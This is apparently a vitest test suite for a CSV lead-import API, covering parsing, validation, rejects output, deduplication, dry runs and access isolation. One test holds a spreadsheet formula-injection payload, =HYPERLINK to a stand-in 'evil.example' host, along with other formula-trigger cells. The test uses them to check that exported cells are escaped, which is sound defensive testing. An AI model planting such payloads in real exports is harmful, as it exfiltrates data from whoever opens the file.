import { describe, expect, it } from 'vitest';
import { expectError } from '../support/assert.js';
import { outboxFor } from '../support/events.js';
import { describeEachDialect, type Client } from '../support/harness.js';
import { allLeads, csvLine, importCsv, importPhone, postCsv, settled } from './support.js';

const byPhone = async (client: Parameters<typeof allLeads>[0], phones: string[]) => {
  const leads = await allLeads(client);
  return phones.map((p) => leads.find((l) => l.phone === p));
};

describeEachDialect(
  'POST /v1/imports',
  (ctx) => {
    describe('the file', () => {
      it('reads common header spellings, a BOM, ; separators, quoted fields with newlines and CRLF, and puts unknown columns in additionalInfo', async () => {
        const { acme } = ctx();
        const [p1, p2] = [importPhone(), importPhone()];
        const csv =
          '\uFEFF' +
          [
            csvLine(
              ['First Name', 'LAST_NAME', 'Mobile Phone', 'E-mail', 'Time Zone', 'External ID', 'Company', ''],
              ';',
            ),
            csvLine(
              ['Ann', 'Lee', p1, 'ANN.Import@Example.com', 'America/Chicago', 'crm-1', 'Acme; "Big" Inc', ''],
              ';',
            ),
            csvLine(['Bob', '', p2.replace('+1', ''), '', '', '', 'line one\nline two', ''], ';'),
            ';;;;;;;',
            '',
          ].join('\r\n');
        const done = await importCsv(acme, csv);
        expect(done).toMatchObject({
          status: 'completed',
          total: 2,
          created: 2,
          updated: 0,
          skipped: 0,
          rejected: 0,
          error: null,
          source: 'api',
        });
        const [ann, bob] = await byPhone(acme, [p1, p2]);
        expect(ann).toMatchObject({
          firstName: 'Ann',
          lastName: 'Lee',
          email: 'ann.import@example.com',
          timeZone: 'America/Chicago',
          externalLeadId: 'crm-1',
          additionalInfo: { Company: 'Acme; "Big" Inc' },
          customerProfile: 'default',
        });
        expect(bob).toMatchObject({
          firstName: 'Bob',
          lastName: '',
          email: null,
          timeZone: null,
          externalLeadId: null,
          additionalInfo: { Company: 'line one\nline two' },
        });
      });

      it.each([
        ['tab', '\t'],
        ['comma', ','],
      ])('detects a %s separator from the header line', async (_name, sep) => {
        const { acme } = ctx();
        const p = importPhone();
        const done = await importCsv(
          acme,
          [csvLine(['firstname', 'phone_number', 'Notes'], sep), csvLine(['Tab', p, 'a, b; c'], sep)].join('\n'),
        );
        expect(done).toMatchObject({ created: 1, rejected: 0 });
        const [lead] = await byPhone(acme, [p]);
        expect(lead).toMatchObject({ firstName: 'Tab', additionalInfo: { Notes: 'a, b; c' } });
      });

      it('rejects bad rows with a reason each, goes on, and serves them as CSV with the original columns plus reason', async () => {
        const { acme } = ctx();
        const good = importPhone();
        const rows = [
          ['Name OK', good, '', 'Europe/Paris', 'x'],
          ['', importPhone(), '', '', 'no first name'],
          ['NoAddress', '', '', '', 'y'],
          ['BadPhone', '12', '', '', 'z'],
          ['BadEmail', '', 'not-an-email', '', 'w'],
          ['BadPhoneBadEmail', '12', 'not-an-email', '', 'u'],
        ];
        const done = await importCsv(
          acme,
          [csvLine(['First Name', 'Phone', 'Email', 'tz', 'Note']), ...rows.map((r) => csvLine(r))].join('\n'),
        );
        expect(done).toMatchObject({
          status: 'completed',
          total: 6,
          created: 1,
          rejected: 5,
          warned: 0,
          options: { invalidFields: 'drop' },
        });
        const res = await acme.get(`/imports/${done.id}/rejects`);
        expect(res.status).toBe(200);
        expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
        const lines = (res.body as string).trimEnd().split('\r\n');
        expect(lines[0]).toBe('First Name,Phone,Email,tz,Note,reason,warnings');
        expect(lines.slice(1)).toEqual([
          // A phone number starts with + and is written behind a quote, as any cell a spreadsheet would run.
          `,'${rows[1]![1]},,,no first name,firstName is missing (every lead needs a first name),`,
          'NoAddress,,,,y,the row has neither a phone nor an email (a lead needs one of them),',
          'BadPhone,12,,,z,"phone ""12"" is not a valid phone number",',
          'BadEmail,,not-an-email,,w,"email ""not-an-email"" is not a valid email address",',
          // Neither address is usable: the row is rejected on the first, whatever the policy.
          'BadPhoneBadEmail,12,not-an-email,,u,"phone ""12"" is not a valid phone number",',
        ]);
      });

      const searched = async (client: Client, email: string) =>
        (await client.get(`/leads?search=${encodeURIComponent(email)}`)).body.leads;

      it('imports a lead whose one bad field it can leave out, lists the row with a warning, and rejects it under invalidFields=reject', async () => {
        const { acme } = ctx();
        const [p1, p2, p3] = [importPhone(), importPhone(), importPhone()];
        const mail = `m${p3.slice(-7)}@mail.example.com`;
        const rows = [
          ['BadEmail', p1, 'not-an-email', '', 'a'],
          ['BadZone', p2, '', 'Mars/Olympus', 'b'],
          ['BadPhone', '12', mail, '', 'c'],
        ];
        const csv = [csvLine(['First Name', 'Phone', 'Email', 'tz', 'Note']), ...rows.map((r) => csvLine(r))].join(
          '\n',
        );
        const done = await importCsv(acme, csv);
        expect(done).toMatchObject({ status: 'completed', total: 3, created: 3, rejected: 0, warned: 3 });
        const lines = ((await acme.get(`/imports/${done.id}/rejects`)).body as string).trimEnd().split('\r\n');
        expect(lines).toEqual([
          'First Name,Phone,Email,tz,Note,reason,warnings',
          `BadEmail,'${p1},not-an-email,,a,,"email ""not-an-email"" is not a valid email address: imported without it"`,
          `BadZone,'${p2},,Mars/Olympus,b,,"timeZone ""Mars/Olympus"" is not a known IANA time zone (like America/Chicago): imported without it"`,
          `BadPhone,12,${mail},,c,,"phone ""12"" is not a valid phone number: imported without it"`,
        ]);
        const found = await acme.get(`/leads/lookup?phone=${encodeURIComponent(p1)}`);
        expect(found.status).toBe(200);
        expect((await acme.get(`/leads/${found.body.id}`)).body).toMatchObject({ firstName: 'BadEmail', email: null });
        expect(await searched(acme, mail)).toMatchObject([{ firstName: 'BadPhone', phone: null }]);

        const strict = [
          csvLine(['First Name', 'Phone', 'Email', 'tz', 'Note']),
          csvLine(['Strict', importPhone(), 'not-an-email', '', 'd']),
        ].join('\n');
        const refused = await importCsv(acme, strict, { invalidFields: 'reject' });
        expect(refused).toMatchObject({
          status: 'completed',
          total: 1,
          created: 0,
          rejected: 1,
          warned: 0,
          options: { invalidFields: 'reject' },
        });
      });

      it('takes internationalised email addresses (RFC 6531), as the API create does', async () => {
        const { acme } = ctx();
        const phone = importPhone();
        const mail = `zoë.clark${phone.slice(-6)}@mail.example.com`;
        const done = await importCsv(
          acme,
          [csvLine(['First Name', 'Phone', 'Email']), csvLine(['Zoë', phone, mail])].join('\n'),
        );
        expect(done).toMatchObject({ status: 'completed', created: 1, rejected: 0, warned: 0 });
        expect(await searched(acme, mail)).toMatchObject([{ firstName: 'Zoë', email: mail }]);
        const viaApi = await acme.post('/leads/create', {
          firstName: 'Zoë',
          email: `ユーザー${phone.slice(-6)}@例え.jp`,
        });
        expect(viaApi.status).toBe(200);
        expect((await acme.post('/leads/create', { firstName: 'No', email: 'zoë@@mail.example.com' })).status).toBe(
          400,
        );
      });

      it('reads a leading 00 as + when the rest is a valid number (default country US)', async () => {
        const { acme } = ctx();
        const national = `6${String(Date.now() % 100_000_000).padStart(8, '0')}`;
        const done = await importCsv(
          acme,
          [csvLine(['First Name', 'Phone']), csvLine(['Pilar', `0034 ${national}`])].join('\n'),
        );
        expect(done).toMatchObject({ status: 'completed', created: 1, rejected: 0 });
        expect(await byPhone(acme, [`+34${national}`])).toMatchObject([{ firstName: 'Pilar' }]);
      });

      it('keeps the reason under its name in the rejects file when a row has more or fewer values than the header', async () => {
        const { acme } = ctx();
        const csv = ['First Name,Phone,Note', 'Extra,12,n,surplus one,surplus two', 'Short,12'].join('\n');
        const done = await importCsv(acme, csv);
        expect(done).toMatchObject({ status: 'completed', total: 2, rejected: 2 });
        const lines = ((await acme.get(`/imports/${done.id}/rejects`)).body as string).trimEnd().split('\r\n');
        const reason = '"phone ""12"" is not a valid phone number"';
        expect(lines).toEqual([
          'First Name,Phone,Note,reason,warnings',
          'Extra,12,n,the row has 5 values but the header has 3 columns,,surplus one,surplus two',
          `Short,12,,${reason},`,
        ]);
      });

      it('serves rejected cells that a spreadsheet would run as a formula with a leading quote (phone numbers too)', async () => {
        const { acme } = ctx();
        const rows = [
          ['=HYPERLINK("http://evil.example/?"&A1)', '+1 12', '@SUM(A1:A9)', '-2+3', '\tcmd'],
          ['+Ann', '12', 'plain', '\r=1', 'x'],
        ];
        const done = await importCsv(
          acme,
          [csvLine(['First Name', 'Phone', 'Note', 'Other', 'Tab']), ...rows.map((r) => csvLine(r))].join('\n'),
        );
        expect(done).toMatchObject({ status: 'completed', total: 2, created: 0, rejected: 2 });
        const res = await acme.get(`/imports/${done.id}/rejects`);
        expect(res.status).toBe(200);
        expect((res.body as string).split('\r\n')).toEqual([
          'First Name,Phone,Note,Other,Tab,reason,warnings',
          `"'=HYPERLINK(""http://evil.example/?""&A1)",'+1 12,'@SUM(A1:A9),'-2+3,"'\tcmd","phone ""+1 12"" is not a valid phone number",`,
          `'+Ann,12,plain,"'\r=1",x,"phone ""12"" is not a valid phone number",`,
          '',
        ]);
        // A phone number written behind the quote imports as it is again (docs/imports.md).
        const phone = importPhone();
        expect(await importCsv(acme, `First Name,Phone\nQuoted,'${phone}\n`)).toMatchObject({
          created: 1,
          rejected: 0,
        });
        expect((await byPhone(acme, [phone]))[0]).toMatchObject({ firstName: 'Quoted', phone });
      });

      it('an empty body or a map naming a missing column is a 400 and records nothing', async () => {
        const { acme } = ctx();
        expectError(await postCsv(acme, ''), 400, /empty/);
        expectError(
          await postCsv(acme, 'Name,Phone\nA,+14155550100\n', { map: 'Mobile=phone' }),
          400,
          /--map names columns the file does not have: Mobile/,
        );
        expectError(
          await postCsv(acme, 'Name,Phone\n', { map: 'Phone=shoeSize' }),
          400,
          /"shoeSize" is not a lead field/,
        );
        expectError(await postCsv(acme, 'Phone,Mobile\n1,2\n'), 400, /both fill phone/);
      });

      it('a body that is not text/csv is a 415 with a clear message; an unknown profile is a 404', async () => {
        const { acme } = ctx();
        expectError(await acme.post('/imports', { rows: [] }), 415, /Content-Type: text\/csv/);
        expectError(await postCsv(acme, 'a,b\n1,2\n', {}, 'text/plain'), 415, /Unsupported Media Type/);
        expectError(
          await postCsv(acme, 'First Name,Phone\nA,+14155550100\n', { profile: 'nope' }),
          404,
          'Resource not found: CustomerProfile with name nope',
        );
        expectError(await postCsv(acme, 'a\n', { onDuplicate: 'merge' }), 400, /onDuplicate/);
        expectError(
          await acme.call('POST', '/imports', 'First Name,Phone\nA,+14155550100\n', {
            'content-type': 'text/csv',
            'idempotency-key': 'imp-1',
          }),
          400,
          /Idempotency-Key is not supported/,
        );
      });

      it('--map renames columns, sends one to additionalInfo under a chosen key and ignores another', async () => {
        const { acme } = ctx();
        const p = importPhone();
        const done = await importCsv(acme, `Given,Tel,Secret,Ref\nMia,${p},hunter2,77\n`, {
          map: 'Given=firstName,Tel=phone,Secret=-,Ref=info:crmRef',
        });
        expect(done).toMatchObject({ created: 1, rejected: 0 });
        const [lead] = await byPhone(acme, [p]);
        expect(lead).toMatchObject({ firstName: 'Mia', additionalInfo: { crmRef: '77' } });
        expect(lead!.additionalInfo).not.toHaveProperty('Secret');
      });
    });

    describe('dedupe', () => {
      it('merges rows within the file and against existing leads by phone, email and external id', async () => {
        const { acme } = ctx();
        const [p1, p2, p3, p4, p5] = [importPhone(), importPhone(), importPhone(), importPhone(), importPhone()];
        const existing = await acme.post('/leads/create', {
          firstName: 'Old',
          phone: p3,
          email: 'old.dedupe@example.com',
          externalLeadId: 'ext-dd-1',
          additionalInfo: { keep: 'me', stage: 'cold' },
        });
        const noPhone = await acme.post('/leads/create', {
          firstName: 'Mail',
          email: 'mail.dedupe@example.com',
          externalLeadId: 'ext-dd-2',
        });
        expect([existing.status, noPhone.status]).toEqual([200, 200]);
        const csv = [
          'First Name,Phone,Email,External Id,Stage',
          `A,${p1},a.dedupe@example.com,,new`,
          `A2,,a.dedupe@example.com,,warm`, // same email as the row above: merged into it
          `B,${p2},,,`,
          `B2,${p2.replace('+1', '')},,,hot`, // same phone, national format
          `Old3,,OLD.DEDUPE@example.com,,warm`, // the existing lead's email, other case
          `Mail2,${p4},,ext-dd-2,`, // external id of a lead without a phone: the phone fills the blank
          `Other,${p5},,ext-dd-1,`, // external id of a lead with another phone: someone else, a new lead
        ].join('\n');
        const done = await importCsv(acme, csv);
        expect(done).toMatchObject({ total: 7, created: 3, updated: 4, skipped: 0, rejected: 0 });
        const [a, b, old, mail, other] = await byPhone(acme, [p1, p2, p3, p4, p5]);
        expect(a).toMatchObject({ firstName: 'A2', email: 'a.dedupe@example.com', additionalInfo: { Stage: 'warm' } });
        expect(b).toMatchObject({ firstName: 'B2', additionalInfo: { Stage: 'hot' } });
        expect(old).toMatchObject({
          id: existing.body.id,
          phone: p3,
          firstName: 'Old3',
          additionalInfo: { keep: 'me', stage: 'cold', Stage: 'warm' },
        });
        expect(mail).toMatchObject({ id: noPhone.body.id, firstName: 'Mail2', email: 'mail.dedupe@example.com' });
        expect(other).toMatchObject({ firstName: 'Other', externalLeadId: 'ext-dd-1' });
        expect(other!.id).not.toBe(existing.body.id);
        expect((await allLeads(acme)).filter((l) => l.email === 'a.dedupe@example.com')).toHaveLength(1);
      });

      it('a row whose phone is lead A and whose email is lead B updates A (phone wins) and moves or copies no address', async () => {
        const { acme } = ctx();
        const [pa, pb] = [importPhone(), importPhone()];
        const a = (await acme.post('/leads/create', { firstName: 'A', phone: pa })).body.id;
        const b = (await acme.post('/leads/create', { firstName: 'B', phone: pb, email: 'b.wins@example.com' })).body
          .id;
        const done = await importCsv(acme, `firstName,phone,email\nAnna,${pa},b.wins@example.com\n`);
        expect(done).toMatchObject({ created: 0, updated: 1 });
        const [la, lb] = [(await acme.get(`/leads/${a}`)).body, (await acme.get(`/leads/${b}`)).body];
        // A had no email, but B holds that one: giving it to A too would change which lead the email finds.
        expect(la).toMatchObject({ firstName: 'Anna', phone: pa, email: null });
        expect(lb).toMatchObject({ firstName: 'B', phone: pb, email: 'b.wins@example.com' });
      });

      it('skip leaves matched leads alone; update sets given fields and merges additionalInfo, with the event PATCH emits', async () => {
        const ts = ctx();
        const { acme } = ts;
        const p = importPhone();
        const id = (
          await acme.post('/leads/create', {
            firstName: 'Zed',
            lastName: 'Keep',
            phone: p,
            additionalInfo: { a: '1', b: '2' },
          })
        ).body.id;
        const csv = `First Name,Phone,b,c\nZoe,${p},20,30\n`;
        const skipped = await importCsv(acme, csv, { onDuplicate: 'skip' });
        expect(skipped).toMatchObject({ created: 0, updated: 0, skipped: 1, options: { onDuplicate: 'skip' } });
        expect((await acme.get(`/leads/${id}`)).body).toMatchObject({
          firstName: 'Zed',
          additionalInfo: { a: '1', b: '2' },
        });
        expect(await outboxFor(ts, id, 'lead.additionalInfo.updated')).toHaveLength(0);

        const updated = await importCsv(acme, csv);
        expect(updated).toMatchObject({ created: 0, updated: 1, skipped: 0 });
        expect((await acme.get(`/leads/${id}`)).body).toMatchObject({
          firstName: 'Zoe',
          lastName: 'Keep',
          additionalInfo: { a: '1', b: '20', c: '30' },
        });
        const events = await outboxFor(ts, id, 'lead.additionalInfo.updated');
        expect(events.map((e) => e.data.changes)).toEqual([
          { b: { old: '2', new: '20' }, c: { old: null, new: '30' } },
        ]);

        // The same file again changes nothing: counted skipped, no second event.
        expect(await importCsv(acme, csv)).toMatchObject({ created: 0, updated: 0, skipped: 1 });
        expect(await outboxFor(ts, id, 'lead.additionalInfo.updated')).toHaveLength(1);
      });

      it('running the same file twice creates nothing new', async () => {
        const { acme } = ctx();
        const phones = Array.from({ length: 30 }, () => importPhone());
        const csv = ['first_name,phone', ...phones.map((p, i) => `N${i},${p}`)].join('\n');
        expect(await importCsv(acme, csv)).toMatchObject({ created: 30 });
        const before = (await allLeads(acme)).length;
        expect(await importCsv(acme, csv)).toMatchObject({ created: 0, updated: 0, skipped: 30 });
        expect((await allLeads(acme)).length).toBe(before);
      });
    });

    describe('dry run, status and isolation', () => {
      it('dryRun counts and reports rejects but writes no lead', async () => {
        const { acme } = ctx();
        const p = importPhone();
        const before = (await allLeads(acme)).length;
        const done = await importCsv(acme, `First Name,Phone\nDry,${p}\nBad,12\n`, { dryRun: 'true' });
        expect(done).toMatchObject({
          status: 'completed',
          total: 2,
          created: 1,
          rejected: 1,
          options: { dryRun: true },
        });
        expect((await allLeads(acme)).length).toBe(before);
        expect((await acme.get(`/imports/${done.id}/rejects`)).body).toContain('Bad,12,');
      });

      it('answers 202 running, then GET reaches completed with timestamps', async () => {
        const { acme } = ctx();
        const res = await postCsv(acme, `First Name,Phone\nS,${importPhone()}\n`);
        expect(res.status).toBe(202);
        expect(res.body).toMatchObject({
          status: 'running',
          total: 0,
          finishedAt: null,
          options: { profile: 'default', onDuplicate: 'update', startConversations: false, dryRun: false, map: null },
        });
        const done = await settled(acme, res.body.id);
        expect(done).toMatchObject({ status: 'completed', total: 1, created: 1 });
        expect(Date.parse(done.finishedAt!)).toBeGreaterThanOrEqual(Date.parse(done.startedAt));
      });

      it("another organization's key cannot read an import (404), and the scopes are leads:write / leads:read", async () => {
        const ts = ctx();
        const done = await importCsv(ts.acme, `First Name,Phone\nIso,${importPhone()}\n`);
        expectError(await ts.beta.get(`/imports/${done.id}`), 404, `Resource not found: Import with id ${done.id}`);
        expectError(
          await ts.beta.get(`/imports/${done.id}/rejects`),
          404,
          `Resource not found: Import with id ${done.id}`,
        );
        expectError(await ts.acme.get('/imports/00000000-0000-7000-8000-000000000000'), 404, /Import with id/);
        const reader = await ts.clientWithScopes(['leads:read']);
        expect((await reader.get(`/imports/${done.id}`)).status).toBe(200);
        expect((await postCsv(reader, 'a\n')).status).toBe(403);
      });

      it('refuses a header line over 1 MiB with a 400 naming it and the limit, and records nothing', async () => {
        const ts = ctx();
        const imports = () => ts.server.store.db.selectFrom('imports').select('id').execute();
        const before = { leads: (await allLeads(ts.acme)).length, imports: (await imports()).length };
        const res = await postCsv(ts.acme, `First Name,Phone,${'x'.repeat(1024 * 1024)}\nS,${importPhone()},1\n`);
        expectError(
          res,
          400,
          "The CSV file's header line is too long: it may be at most 1 MiB (1048576 bytes); is a quote left open?",
        );
        expect({ leads: (await allLeads(ts.acme)).length, imports: (await imports()).length }).toEqual(before);
      });

      it('refuses an upload larger than the import limit with 413', async () => {
        const { acme } = ctx();
        const big = `First Name,Phone\n${'x,1\n'.repeat(600_000)}`;
        expectError(await postCsv(acme, big), 413, /larger than the import limit/);
      });
    });
  },
  { PARLEY_IMPORT_BODY_LIMIT_BYTES: String(2 * 1024 * 1024) },
);
